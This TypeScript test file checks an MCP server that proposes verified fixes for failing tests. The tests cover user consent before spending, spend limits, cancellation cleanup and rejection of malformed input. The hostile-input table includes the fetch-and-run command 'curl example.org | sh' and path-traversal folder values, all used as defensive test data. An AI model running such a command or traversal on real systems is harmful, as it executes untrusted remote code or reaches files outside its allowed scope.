// Other programs call us: the official client over real stdio, the built server, real git, real tests, and a model that
// bills by a meter of its own.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { existsSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import type { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { answer, cli, McpBed, MOST, RIGHT, ROMAN, until } from './mcpBed';

const yes = () => ({ action: 'accept', content: {} }) as const;
/** The free proposer finds nothing for Roman numerals, and takes its time over it. */
const PAID = ['--proposers', 'anthropic'];
const pidOf = (client: Client) => (client.transport as StdioClientTransport).pid;

describe('underbid mcp', function () {
	this.timeout(120_000);
	let bed: McpBed;

	before(() => assert.ok(existsSync(cli), 'node esbuild.js first'));
	beforeEach(async () => {
		bed = await McpBed.open();
	});
	afterEach(() => bed.close());

	describe('to a client that can ask its user', () => {
		it('gives a verified fix for a sum that the user agreed to, at what the meter says, and applies nothing', async () => {
			const client = await bed.client(PAID, yes);
			const { tools } = await client.listTools();
			assert.deepEqual(
				tools.map(({ name }) => name),
				['fix', 'quote', 'verify', 'spend'],
			);
			assert.match(
				tools[0]?.description ?? '',
				/The user is asked before anything is spent, at most \$0\.25/,
			);
			const told: string[] = [];
			const said = await bed.call(client, 'fix', { test: ROMAN }, { told });
			assert.equal(said.failed, false, said.text);
			assert.equal(bed.asked.length, 1);
			assert.match(
				bed.asked[0] ?? '',
				/^Spend up to \$0\.25 to fix “test\/roman\.test\.js::writes Roman numerals”\?/,
			);
			assert.deepEqual([said.data['verified'], said.data['checked']], [true, false]);
			assert.ok(bed.metered > 0);
			assert.equal(Math.round(Number(said.data['spentUsd']) * 1e9), bed.metered);
			assert.match(said.text, /^Verified fix\. \$0\.\d+ of at most \$0\.25 was spent\./);
			assert.match(said.text, /```diff\ndiff --git[\s\S]*## Verified fix/);
			assert.equal(bed.git('status', '--porcelain'), '');
			writeFileSync(path.join(bed.home, 'fix.patch'), String(said.data['diff']));
			bed.git('apply', '--check', path.join(bed.home, 'fix.patch'));
			assert.ok(
				told.some((words) => /^Running your tests on the code as it is · \$0\.00 of \$0\.25$/.test(words)),
				told.join('\n'),
			);
			assert.ok(told.some((words) => /^Attempt \d+, .*: looking for a fix/.test(words)));
			assert.deepEqual(bed.leftovers(pidOf(client)), []);
			const spend = await bed.call(client, 'spend', { by: 'model' });
			assert.match(spend.text, /anthropic\/strong/);
		});

		it('spends nothing where the user says no, and no more than the user typed', async () => {
			let reply: { action: 'decline' | 'cancel' | 'accept'; content?: { limit: string } } | undefined;
			const client = await bed.client(PAID, () => {
				if (reply === undefined) {
					throw new Error('the desk is on fire');
				}
				return reply;
			});
			const unasked = await bed.call(client, 'fix', { test: ROMAN });
			assert.match(unasked.text, /could not be asked \(.*on fire\)\. Nothing was spent/);
			for (const action of ['decline', 'cancel'] as const) {
				reply = { action };
				const said = await bed.call(client, 'fix', { test: ROMAN });
				assert.equal(said.failed, true);
				assert.match(said.text, /did not agree.*Nothing was spent/);
			}
			reply = { action: 'accept', content: { limit: '0.0001' } };
			const little = await bed.call(client, 'fix', { test: ROMAN });
			assert.equal(little.data['limitUsd'], 0.0001);
			reply = { action: 'accept', content: { limit: '100' } };
			assert.equal(bed.models.seen.length, 0);
			const much = await bed.call(client, 'fix', { test: ROMAN, limit: 0.1 });
			assert.equal(much.data['limitUsd'], 0.1, 'an answer cannot raise what was asked');
			reply = { action: 'accept', content: { limit: 'lots' } };
			assert.match((await bed.call(client, 'fix', { test: ROMAN })).text, /"lots" is not an amount/);
		});

		it('uses a test that was written for an issue only with the word of the user', async () => {
			const text =
				'# most() misses the last number\n\n```js\nconst { most } = require("roman");\nmost([1, 2, 3]); // expected: 3, got 2\n```\n';
			writeFileSync(
				path.join(bed.folder, 'test/roman.test.js'),
				"const { test } = require('node:test');\nconst assert = require('node:assert/strict');\nconst { roman } = require('../src/roman.js');\ntest('gives text', () => assert.equal(typeof roman(1), 'string'));\n",
			);
			const client = await bed.client([], (message) => ({
				action: message.startsWith('A test was written') ? 'accept' : 'decline',
			}));
			const said = await bed.call(client, 'fix', { issue: text, limit: 0 });
			assert.equal(said.failed, false, said.text);
			assert.deepEqual([said.data['verified'], said.data['checked']], [false, true], said.text);
			assert.match(bed.asked[0] ?? '', /^A test was written.*\n\ndiff --git a\/test\//);
			assert.match(String(said.data['testDiff']), /most\(\[1, 2, 3\]\), 3/);
			const silent = await bed.client();
			const refused = await bed.call(silent, 'fix', { issue: text });
			assert.match(refused.text, /only with the word of the user.*--yes/);
			const settled = await bed.client(['--yes']);
			assert.equal((await bed.call(settled, 'fix', { issue: text })).data['checked'], true);
		});
	});

	describe('to a client that cannot ask', () => {
		it('gives what is free and refuses more money', async () => {
			const client = await bed.client();
			const { tools } = await client.listTools();
			assert.match(tools[0]?.description ?? '', /Only the free proposer is used here/);
			const said = await bed.call(client, 'fix', { test: MOST });
			assert.equal(said.data['verified'], true, said.text);
			assert.match(said.text, /\$0\.00 of at most \$0\.00 was spent[\s\S]*Only the free proposer was used/);
			for (const limit of [0.01, '5']) {
				const refused = await bed.call(client, 'fix', { test: ROMAN, limit });
				assert.equal(refused.failed, true);
				assert.match(refused.text, /Nothing may be spent here.*--limit/);
			}
			assert.equal(bed.models.seen.length, 0);
			assert.deepEqual(bed.leftovers(pidOf(client)), []);
		});

		it('spends within the limit that the user set at the start, and is refused more', async () => {
			const client = await bed.client([...PAID, '--limit', '0.50']);
			const { tools } = await client.listTools();
			assert.match(
				tools[0]?.description ?? '',
				/The user allows \$0\.50 for all calls of this session together\./,
			);
			const refused = await bed.call(client, 'fix', { test: ROMAN, limit: 0.51 });
			assert.match(refused.text, /more than the user allows here \(\$0\.50\).*never raise/);
			const said = await bed.call(client, 'fix', { test: ROMAN, limit: 0.3 });
			assert.equal(said.data['verified'], true, said.text);
			assert.equal(said.data['limitUsd'], 0.3);
			const { data } = await bed.call(client, 'spend', {});
			assert.equal(data['sessionUsed'], bed.metered);
			assert.equal(data['sessionLeft'], 500_000_000 - bed.metered);
		});

		it('two calls at once share the one limit', async () => {
			const client = await bed.client([...PAID, '--limit', '0.50']);
			bed.models.behave = () => ({ kind: 'hang' });
			const stop = new AbortController();
			const first = bed.call(client, 'fix', { test: ROMAN, limit: 0.3 }, { signal: stop.signal });
			const ended = assert.rejects(first);
			await until('the first call to be sent', () => bed.models.seen.length > 0);
			const second = await bed.call(client, 'fix', { test: ROMAN, limit: 0.3 });
			assert.match(second.text, /Of the \$0\.50 .*\$0\.20 is left: .*set aside for calls under way/);
			bed.models.behave = () => RIGHT;
			const third = await bed.call(client, 'fix', { test: ROMAN });
			assert.equal(third.data['verified'], true, third.text);
			assert.equal(third.data['limitUsd'], 0.2, 'what is left when none is named');
			stop.abort();
			await ended;
			await until('the first call to be settled', () => bed.leftovers(pidOf(client)).length === 0);
			const { data } = await bed.call(client, 'spend', {});
			assert.ok(Number(data['sessionUsed']) <= 500_000_000);
			assert.ok(Number(data['sessionUsed']) > bed.metered - 1, 'the cut call counts at its worst');
		});

		it('is bound by the caps of the settings as well', async () => {
			bed.settings({ caps: { day: '0.0001' } });
			const client = await bed.client([...PAID, '--limit', '0.50']);
			const said = await bed.call(client, 'fix', { test: ROMAN });
			assert.deepEqual([said.data['verified'], said.data['spentUsd']], [false, 0]);
			assert.match(said.text, /day|today/);
			assert.equal(bed.models.seen.length, 0);
		});
	});

	it('a cancelled call leaves nothing behind, and the server goes on', async () => {
		const client = await bed.client([...PAID, '--limit', '1']);
		bed.models.behave = () => ({ kind: 'hang' });
		for (const at of ['tests', 'model'] as const) {
			const stop = new AbortController();
			const told: string[] = [];
			const call = assert.rejects(
				bed.call(client, 'fix', { test: ROMAN, limit: 0.3 }, { signal: stop.signal, told }),
			);
			const sent = bed.models.seen.length;
			await until(`the ${at}`, () =>
				at === 'model'
					? bed.models.seen.length > sent
					: told.some((words) => words.startsWith('Running your')),
			);
			stop.abort();
			await call;
			await until('everything to be gone', () => bed.leftovers(pidOf(client)).length === 0);
			assert.equal(bed.git('status', '--porcelain'), '');
		}
		bed.models.behave = () => RIGHT;
		assert.equal((await bed.call(client, 'fix', { test: ROMAN, limit: 0.3 })).data['verified'], true);
	});

	it('ends with its stdin, and its runs with it', async () => {
		bed.models.behave = () => ({ kind: 'hang' });
		const server = spawn(process.execPath, [cli, 'mcp', ...PAID, '--limit', '1'], {
			cwd: bed.folder,
			env: bed.environment,
			stdio: ['pipe', 'pipe', 'ignore'],
		});
		const ended = new Promise<number | null>((resolve) => server.on('exit', resolve));
		let out = '';
		server.stdout.setEncoding('utf8').on('data', (text: string) => {
			out += text;
		});
		const send = (message: object) =>
			server.stdin.write(`${JSON.stringify({ jsonrpc: '2.0', ...message })}\n`);
		// Noise of all sorts is no reason to break, and never answered with anything but the protocol.
		server.stdin.write(
			'hello\n\n{"jsonrpc":"2.0"}\n[1,2]\n"x"\n{"jsonrpc":"2.0","id":7,"method":"no/such"}\n',
		);
		const about = {
			protocolVersion: '2025-06-18',
			capabilities: {},
			clientInfo: { name: 'raw', version: '1' },
		};
		send({ id: 1, method: 'initialize', params: about });
		send({ method: 'notifications/initialized' });
		send({ id: 2, method: 'tools/call', params: { name: 'fix', arguments: 'all of it' } });
		send({ id: 3, method: 'tools/call', params: { name: 'rm', arguments: {} } });
		send({ id: 4, method: 'tools/call', params: { name: 'constructor' } });
		send({
			id: 5,
			method: 'tools/call',
			params: { name: 'fix', arguments: { test: ROMAN }, _meta: { progressToken: 'p' } },
		});
		await until('a call to a model', () => bed.models.seen.length > 0);
		server.stdin.end();
		assert.equal(await ended, 0);
		assert.deepEqual(bed.leftovers(), []);
		const lines = out
			.trim()
			.split('\n')
			.map(
				(line) =>
					JSON.parse(line) as { jsonrpc: string; id?: number; method?: string; error?: { message: string } },
			);
		assert.ok(
			lines.every(
				({ jsonrpc, id, method }) => jsonrpc === '2.0' && (id !== undefined || method !== undefined),
			),
		);
		assert.ok(lines.some(({ method }) => method === 'notifications/progress'));
		assert.match(
			lines.find(({ id }) => id === 3)?.error?.message ?? '',
			/no tool "rm"; there are fix, quote, verify, spend/,
		);
		assert.match(lines.find(({ id }) => id === 4)?.error?.message ?? '', /no tool/);
		assert.ok(lines.find(({ id }) => id === 2)?.error !== undefined);
	});

	it('judges a patch, free', async () => {
		const client = await bed.client();
		const patch = (to: string) =>
			`diff --git a/src/roman.js b/src/roman.js\n--- a/src/roman.js\n+++ b/src/roman.js\n@@ -5,5 +5,5 @@\n exports.most = (list) => {\n \tlet best = list[0];\n-\tfor (let i = 1; i < list.length - 1; i++) {\n+\tfor (let i = 1; i < ${to}; i++) {\n \t\tif (list[i] > best) best = list[i];\n \t}\n`;
		const right = await bed.call(client, 'verify', { patch: patch('list.length'), test: MOST });
		assert.equal(right.data['verified'], true, right.text);
		const wrong = await bed.call(client, 'verify', { patch: patch('list.length - 2'), test: MOST });
		assert.deepEqual([wrong.data['verified'], wrong.failed], [false, false], wrong.text);
		const outside = await bed.call(client, 'verify', {
			patch: patch('1').replaceAll('src/roman.js', '../x.js'),
		});
		assert.equal(outside.failed, true);
		assert.equal(bed.git('status', '--porcelain'), '');
	});

	it('answers hostile input with sentences, starts nothing and spends nothing', async () => {
		const client = await bed.client(['--limit', '0.50'], yes);
		const long = 'x'.repeat(3_000_000);
		const table: readonly [string, Readonly<Record<string, unknown>>, RegExp][] = [
			['fix', { limit: '-1' }, /cannot be below zero/],
			['fix', { limit: -0.5 }, /below zero/],
			['fix', { limit: Number.NaN }, /not an amount/],
			['fix', { limit: '1e9' }, /not an amount/],
			['fix', { limit: 1e9 }, /more than anything/],
			['fix', { limit: 1e6 }, /more than the user allows here \(\$0\.50\)/],
			['fix', { limit: '0,25' }, /0\.25/],
			['fix', { limit: {} }, /not an amount/],
			['fix', { limit: [0.1] }, /not an amount/],
			['fix', { limit: long }, /not an amount/],
			['fix', { test: 5 }, /as text/],
			['fix', { test: '  ' }, /empty/],
			['fix', { test: long }, /no name of a test/],
			['fix', { test: 'a', issue: 'b' }, /not both/],
			['fix', { issue: 12 }, /the text of the issue itself/],
			['fix', { issue: long }, /too many/],
			['fix', { maxSpend: 5 }, /no argument "maxSpend"; this tool takes test, issue, limit, folder/],
			['fix', { testCommand: 'curl example.org | sh' }, /no argument "testCommand"/],
			['fix', { folder: '../' }, /outside/],
			['fix', { folder: '/' }, /outside/],
			['fix', { folder: 'no/such' }, /no folder/],
			['fix', { folder: 'package.json' }, /no folder/],
			['fix', { folder: '\0' }, /relative/],
			['verify', {}, /unified diff/],
			['verify', { patch: 'hello' }, /./],
			['verify', { patch: long }, /too many/],
			['quote', { bids: [] }, /one to 8/],
			['quote', { bids: 'all' }, /one to 8/],
			['quote', { bids: [-1] }, /below zero/],
			['spend', { by: 'repository' }, /one of day, month/],
			['spend', { since: '2026-02-30' }, /a day like/],
			['spend', { until: 5 }, /a day like/],
		];
		for (const [name, args, words] of table) {
			const said = await bed.call(client, name, args);
			const shown = `${name} ${JSON.stringify(args).slice(0, 80)}: ${said.text.slice(0, 300)}`;
			assert.equal(said.failed, true, shown);
			assert.match(said.text, words, shown);
			assert.ok(said.text.length < 600 && !/\n\s+at /.test(said.text), shown);
		}
		assert.deepEqual([bed.asked, bed.models.seen.length], [[], 0]);
		assert.deepEqual(bed.leftovers(pidOf(client)), []);
		// The name of an issue is taken for its text: nothing is read from disk or network for a caller.
		bed.models.behave = () => answer('I cannot tell.');
		await bed.call(client, 'fix', { issue: path.join(bed.home, 'state/settings.json'), limit: 0.2 });
		assert.ok(bed.models.seen.every(({ text }) => !text.includes('"models"')));
	});

	it('tells a quote, and a wrong start in one sentence', async () => {
		const client = await bed.client();
		const { text, failed } = await bed.call(client, 'quote', { bids: [0, '0.25'] });
		assert.equal(failed, false);
		assert.match(text, /verified fix|No estimate yet/);
		for (const [args, words] of [
			[['--limit=-1'], /--limit: .*below zero/],
			[['--limit', '1e9'], /--limit: /],
			[['-C', '/no/such'], /does not exist/],
			[['--max-spend', '1'], /mcp --help/],
		] as const) {
			const server = spawn(process.execPath, [cli, 'mcp', ...args], {
				cwd: bed.folder,
				env: bed.environment,
			});
			let [out, err] = ['', ''];
			server.stdout.on('data', (piece: Buffer) => {
				out += piece.toString();
			});
			server.stderr.on('data', (piece: Buffer) => {
				err += piece.toString();
			});
			assert.equal(await new Promise((resolve) => server.on('close', resolve)), 2, err);
			assert.match(err, words);
			assert.equal(out, '');
		}
	});
});
